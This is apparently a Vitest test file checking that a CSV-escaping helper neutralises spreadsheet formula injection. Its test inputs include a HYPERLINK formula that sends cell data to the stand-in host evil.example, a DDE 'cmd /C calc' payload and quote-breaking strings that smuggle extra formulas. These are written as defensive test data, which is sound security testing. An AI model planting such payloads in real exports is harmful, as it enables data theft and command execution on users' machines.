import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './safe-csv';

describe('csvField (formula injection, SECURITY-TESTS row L)', () => {
  it.each([
    ['=1+2', `"'=1+2"`],
    ['+1+1', `"'+1+1"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\n=1+1', `"'\n=1+1"`],
    [
      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`,
    ],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['=1+2";=1+2', `"'=1+2"";=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
    ['a,=1+1', '"a,=1+1"'],
    ['plain', '"plain"'],
  ])('neutralises %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it('keeps genuine negative numbers as numbers', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(0.25)).toBe('0.25');
    expect(csvField(Number.NaN)).toBe('');
  });

  it('writes raw values when asked, still quoted', () => {
    expect(csvField('=1+2', true)).toBe('"=1+2"');
  });

  it('protects column names too', () => {
    expect(toCsv(['=x', 'y'], [[1, 'a']])).toBe(`"'=x","y"\r\n1,"a"\r\n`);
  });
});
